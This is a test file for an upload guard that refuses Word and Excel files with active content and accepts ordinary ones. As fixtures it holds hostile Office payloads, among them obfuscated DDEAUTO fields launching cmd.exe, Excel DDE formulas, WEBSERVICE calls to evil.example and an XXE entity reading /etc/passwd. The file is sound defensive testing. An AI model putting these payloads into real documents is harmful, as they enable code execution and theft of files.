import { describe, expect, test } from 'vitest';
import { refusalMessage, type ActiveContent, type UploadRefusal } from '../refusals.ts';
import {
  compoundFile,
  contentTypes,
  docxFile,
  relationships,
  sheetMain,
  wordStream,
  xlsxFile,
  type Parts,
} from './doubles/office-files.ts';
import { inspectionOf } from './support/inspection.ts';

const refusalOfWord = inspectionOf('plan.docx');
const refusalOfSheet = inspectionOf('ledger.xlsx');
const refusalOfOldWord = inspectionOf('plan.doc');

const active = (found: ActiveContent): UploadRefusal => ({ reason: 'active-content', found });
const elsewhere: UploadRefusal = { reason: 'parts-elsewhere' };
const utf16 = (text: string): Buffer => Buffer.from(`\uFEFF${text}`, 'utf16le');

const wordText = (body: string): string =>
  `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="w"><w:body><w:p>${body}</w:p></w:body></w:document>`;
const word = (body: string): Parts => ({ 'word/document.xml': wordText(body) });
const mark = (kind: string): string => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
const instruction = (text: string): string =>
  `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
const field = (...pieces: readonly string[]): string =>
  `${mark('begin')}${pieces.map(instruction).join('<w:r><w:t>x</w:t></w:r>')}${mark('separate')}<w:r><w:t>1</w:t></w:r>${mark('end')}`;
const linked = (...entry: readonly [string, string, string?]): Parts => ({
  'word/_rels/document.xml.rels': relationships(entry),
});

type Made = readonly (readonly [what: string, parts: Parts])[];
/** Tests that a document with any of these is refused for this. */
const refusesWord = (refusal: UploadRefusal, documents: Made) =>
  test.each(documents)('GUARD-10 %s', async (_what, parts) => {
    expect(await refusalOfWord(await docxFile(parts))).toEqual(refusal);
  });
const refusesSheet = (refusal: UploadRefusal, workbooks: Made) =>
  test.each(workbooks)('GUARD-10 %s', async (_what, parts) => {
    expect(await refusalOfSheet(await xlsxFile(parts))).toEqual(refusal);
  });

describe('GUARD-10 a Word document with active content is refused', () => {
  refusesWord(active('office-program'), [
    ['a program asked for data', word(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'))],
    ['the same in small letters and behind a space', word(field(' dde excel a b'))],
    ['the same in pieces', word(field('DD', 'EA', 'UTO cmd x'))],
    ['the same in a part of a character each', word(field('&#68;D<!-- -->E<![CDATA[AUTO]]> cmd x'))],
    ['the same in one element', word('<w:fldSimple w:instr="DDEAUTO cmd x"/>')],
    ['the same under another prefix', word(field('DDE cmd x').replaceAll('w:', 'v:'))],
    [
      'the same within another field',
      word(`${mark('begin')}${instruction('IF ')}${field('DDE a b')}${mark('end')}`),
    ],
    [
      'the same put together by another field',
      word(`${mark('begin')}${instruction('DD')}${field('QUOTE 69')}${instruction(' cmd x')}${mark('end')}`),
    ],
    ['the same in a field that does not end', word(`${mark('begin')}${instruction('DDE cmd x')}`)],
    ['the same without a beginning', word(instruction('DDE cmd x'))],
    ['the same in text that was deleted', word(field('DDE cmd x').replaceAll('instrText', 'delInstrText'))],
    ['the same in a header', { 'word/header1.xml': wordText(field('DDE cmd x')) }],
    [
      'the same in UTF-16',
      { 'word/document.xml': utf16(wordText(field('DDE cmd x')).replace('UTF-8', 'UTF-16')) },
    ],
    ['the same in a part of another name', { 'word/a.dat': wordText(field('DDE cmd x')) }],
  ]);

  refusesWord(elsewhere, [
    ['a text that is fetched', word(field('INCLUDETEXT "\\\\\\\\server\\\\a.docx"'))],
    ['a picture that is fetched', word(field('INCLUDEPICTURE "https://evil.example/a.png" \\d'))],
    ['a table that is fetched', word(field('LINK Excel.Sheet.8 "c:\\\\a.xls"'))],
    ['a text that is fetched, as it was written before', word(field('INCLUDE "c:\\\\a.docx"'))],
    ['a picture that is fetched, as it was written before', word(field('IMPORT "c:\\\\a.png"'))],
    ['a table out of a database', word(field('DATABASE \\d "c:\\\\a.mdb"'))],
    ['a document of the index', word(field('RD c:\\\\a.docx'))],
    ['a picture in the network', linked('image', '\\\\server\\a.png', 'External')],
    ['a picture on the web', linked('image', 'https://evil.example/a.png', 'External')],
    ['a picture elsewhere that says it is inside', linked('image', 'file://server/a.png')],
    ['a picture by its address', word('<v:imagedata src="\\\\server\\a.png"/>')],
    [
      'a picture by its address in a drawing',
      { 'word/a.vml': '<xml><br><v:imagedata src="http://evil.example/a"></xml>' },
    ],
    ['a frame', linked('frame', 'https://evil.example', 'External')],
    ['another document', linked('subDocument', 'a.docx', 'External')],
  ]);

  refusesWord(active('office-link'), [
    ['a link to a file in a field', word(field('HYPERLINK "file://server/a"'))],
    ['a link to the network in a field', word(field('HYPERLINK \\\\\\\\server\\\\a'))],
    ['a link to a file', linked('hyperlink', 'file:///c:/a.exe', 'External')],
    ['a link to the network', linked('hyperlink', '\\\\server\\a', 'External')],
    ['a link that is a search', linked('hyperlink', 'search-ms:query=a', 'External')],
  ]);

  refusesWord(active('office-data'), [
    [
      'a database behind a serial letter',
      { 'word/settings.xml': wordText('<w:connectString w:val="DSN=a"/>') },
    ],
  ]);

  refusesWord(active('office-add-in'), [
    ['custom buttons', { 'customUI/customUI14.xml': '<customUI/>' }],
    ['an add-in', { 'word/webextensions/taskpanes.xml': '<a/>' }],
    ['an add-in, by what points to it', linked('webextensiontaskpanes', 'a.xml')],
  ]);

  refusesWord(active('office-definitions'), [
    [
      'definitions',
      { 'word/document.xml': `<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>` },
    ],
    ['definitions in UTF-16', { 'word/document.xml': utf16('<!DOCTYPE a><a/>') }],
    ['definitions in a drawing', { 'word/media/a.svg': '<!DOCTYPE svg><svg/>' }],
    ['definitions in an older drawing', { 'word/a.vml': '<!DOCTYPE a><xml/>' }],
    ['definitions in a list', { 'word/_rels/a.xml.rels': '<!DOCTYPE a><Relationships/>' }],
  ]);

  test.each<readonly [string, string | Buffer]>([
    ['an encoding we do not read', '<?xml version="1.0" encoding="UTF-7"?><a/>'],
    ['bytes that are no UTF-8', Buffer.from('<a>\xff</a>', 'latin1')],
    ['an element that does not end', '<a><b></a>'],
    ['a custom character entity', '<a>&what;</a>'],
    ['a formula without end', `<a><f>${Array.from({ length: 200_000 }, (_, at) => at).join('+')}</f></a>`],
  ])('GUARD-10 a part that could be read in two ways: %s', async (_what, content) => {
    expect(await refusalOfWord(await docxFile({ 'word/document.xml': content }))).toEqual({
      reason: 'damaged',
      found: 'docx',
    });
  });
});

const sheet = (formula: string): Parts => ({
  'xl/worksheets/sheet1.xml': `<worksheet><sheetData><row><c><f>${formula}</f></c></row></sheetData></worksheet>`,
});

describe('GUARD-10 a workbook that reaches out is refused', () => {
  refusesSheet(active('office-program'), [
    ['a program asked for data', sheet("cmd|'/C calc'!A0")],
    [
      'a program in a name',
      {
        'xl/workbook.xml':
          '<workbook><definedNames><definedName name="a">cmd|\'/C calc\'!A0</definedName></definedNames></workbook>',
      },
    ],
    [
      'a program in a rule for a cell',
      { 'xl/worksheets/sheet1.xml': "<worksheet><formula1>cmd|'/C calc'!A0</formula1></worksheet>" },
    ],
    [
      'a program in a part that says so',
      { 'xl/a.xml': '<a><x:ddeLink xmlns:x="x" ddeService="cmd" ddeTopic="/C calc"/></a>' },
    ],
  ]);

  refusesSheet(active('office-data'), [
    ['the web', sheet('_xlfn.WEBSERVICE(&quot;https://evil.example/&quot;&amp;A1)')],
    ['a picture of the web', sheet('_xlfn.IMAGE(A1)')],
    ['a program that delivers data', sheet('RTD(&quot;a.b&quot;,,1)')],
    ['a call into a library', sheet('SUM(CALL (&quot;a&quot;,&quot;b&quot;))')],
    ['a library that is made known', sheet('REGISTER.ID(&quot;a&quot;,&quot;b&quot;)')],
    ['a program that is run', sheet('EXEC(&quot;calc&quot;)')],
    ['a program that is asked', sheet('DDE(&quot;cmd&quot;;&quot;/C calc&quot;;&quot;a&quot;)')],
    ['a database that is asked', sheet('SQL.REQUEST(&quot;DSN=a&quot;)')],
    ['another workbook', sheet('[1]Sheet1!A1')],
    ['another workbook with a space', sheet("'[1]Our sheet'!$A$1")],
    ['another workbook in the network', sheet("'\\\\server\\[a.xlsx]Sheet1'!A1")],
    ['links to other workbooks', { 'xl/externalLinks/externalLink1.xml': '<externalLink/>' }],
    [
      'links to other workbooks, by their type',
      {
        'xl/a.xml': '<a/>',
        '[Content_Types].xml': contentTypes({
          'xl/workbook.xml': sheetMain,
          'xl/a.xml': 'application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml',
        }),
      },
    ],
    [
      'links to other workbooks, by what points to them',
      { 'xl/_rels/workbook.xml.rels': relationships(['externalLink', 'a.xml']) },
    ],
    ['a database', { 'xl/connections.xml': '<connections/>' }],
    ['a query', { 'xl/queryTables/queryTable1.xml': '<queryTable/>' }],
    ['a model of data', { 'xl/model/item.data': 'x' }],
    ['a query of the newer kind', { 'customXml/item1.xml': utf16('<DataMashup>AAAA</DataMashup>') }],
  ]);

  refusesSheet(active('office-link'), [
    ['a link to a file', sheet('HYPERLINK(&quot;\\\\server\\a&quot;,&quot;Open&quot;)')],
  ]);
});

describe('GUARD-10 ordinary documents are accepted', () => {
  test.each([
    'PAGE \\* MERGEFORMAT',
    ' TOC \\o "1-3" \\h',
    'HYPERLINK "https://a.ug/x?y=1" \\t "_blank"',
    'HYPERLINK \\l "_Toc1"',
    'HYPERLINK "mailto:a@b.ug"',
    'DATE \\@ "d MMMM yyyy"',
    'REF DDE \\h',
    'ADDIN ZOTERO_ITEM CSL_CITATION {}',
    'FORMTEXT',
    'MACROBUTTON NoMacro Click here',
  ])('GUARD-10 the field %s', async (order) => {
    expect(await refusalOfWord(await docxFile(word(field(order.replaceAll('"', '&quot;')))))).toBeUndefined();
  });

  test.each<readonly [string, Parts]>([
    [
      'a field within another',
      word(
        `${mark('begin')}${instruction(' IF ')}${field('PAGE')}${instruction(' = 1 "a" "b"')}${mark('end')}`,
      ),
    ],
    [
      'a sum over a field',
      word(`${mark('begin')}${instruction('=')}${field('PAGE')}${instruction('-1')}${mark('end')}`),
    ],
    ['words that only sound like it', word('<w:r><w:t>DDEAUTO cmd | WEBSERVICE( &lt;!DOCTYPE</w:t></w:r>')],
    ['a link to a page and to a neighbour', linked('hyperlink', 'notes/page.html', 'External')],
    ['custom data', { 'customXml/item1.xml': '<b:Sources xmlns:b="b"/>', 'docProps/custom.xml': '' }],
    ['a drawing', { 'word/media/a.svg': '<svg><image href="data:image/png;base64,AA"/></svg>' }],
    [
      'an older drawing that is not quite XML',
      { 'word/a.vml': '<xml><div>a<br>b</div><v:imagedata src="a.png"></xml>' },
    ],
    ['a part that is empty', { 'word/a.xml': ' ' }],
  ])('GUARD-10 a Word document with %s', async (_what, parts) => {
    expect(await refusalOfWord(await docxFile(parts))).toBeUndefined();
  });

  test.each([
    'SUM(A1:B2)',
    "'Our sheet'!A1",
    'Table1[[#This Row],[Price]]*2',
    'Table1[Price]',
    '[0]!Total',
    'IF(A1=&quot;cmd|x&quot;,&quot;WEBSERVICE(&quot;,1)',
    'HYPERLINK(&quot;https://a.ug&quot;,&quot;Note: C:&quot;)',
    'HYPERLINK(&quot;#Sheet2!A1&quot;)',
    'VLOOKUP(A1,Sheet2!A:B,2,FALSE)',
    "'a|b'!A1",
    'RECALL(1)',
    'Table1[a]+Sheet2!A1',
  ])('GUARD-10 the formula %s', async (formula) => {
    expect(await refusalOfSheet(await xlsxFile(sheet(formula)))).toBeUndefined();
  });

  test('GUARD-10 a sheet of a hundred thousand cells', async () => {
    const rows = Array.from(
      { length: 50_000 },
      (_, at) =>
        `<row r="${at}"><c><f>A${at}+1</f><v>${(at * 7919) % 10_007}</v></c><c t="s"><v>3</v></c></row>`,
    );
    const large = {
      'xl/worksheets/sheet1.xml': `<worksheet><sheetData>${rows.join('')}</sheetData></worksheet>`,
    };
    expect(await refusalOfSheet(await xlsxFile(large))).toBeUndefined();
  });
});

describe('GUARD-10 older Word documents', () => {
  const old = (order: string): Buffer => {
    const stream = wordStream();
    Buffer.from(order, 'latin1').copy(stream, 1000);
    return compoundFile([{ name: 'WordDocument', content: stream }]);
  };
  const wide = (order: string): string => Buffer.from(order, 'utf16le').toString('latin1');

  test.each<readonly [string, string, UploadRefusal | undefined]>([
    ['a program asked for data', '\x13 DDEAUTO cmd "/k calc"\x14x\x15', active('office-program')],
    ['the same in wide letters', wide('\x13 ddeauto cmd\x14'), active('office-program')],
    ['the same without its end', '\x13 DDEAUTO cmd \x01', active('office-program')],
    ['a picture that is fetched', '\x13INCLUDEPICTURE "\\\\server\\a"\x14\x15', elsewhere],
    ['a link to the network', wide('\x13 HYPERLINK "\\\\\\\\server\\\\a" \x14a\x15'), active('office-link')],
    ['a link to the web', '\x13 HYPERLINK "https://a.ug" \x14a\x15', undefined],
    ['the number of the page', wide('\x13 PAGE \x141\x15'), undefined],
    ['words that only sound like it', 'DDEAUTO cmd', undefined],
  ])('GUARD-10 %s', async (_what, order, refusal) => {
    expect(await refusalOfOldWord(old(order))).toEqual(refusal);
  });
});

test('GUARD-10 the refusals say what was found and how to make a clean file', () => {
  const kinds: readonly ActiveContent[] = [
    'office-program',
    'office-data',
    'office-link',
    'office-add-in',
    'office-definitions',
  ];
  for (const found of kinds) {
    expect(refusalMessage(active(found))).toMatch(
      /^(This|When opened, this) document .+\. .*[Ss]ave (it|the document) as a PDF(,? and send (it|that)( again)?|\. Then send (it|that)( again)?)\.$/,
    );
  }
});
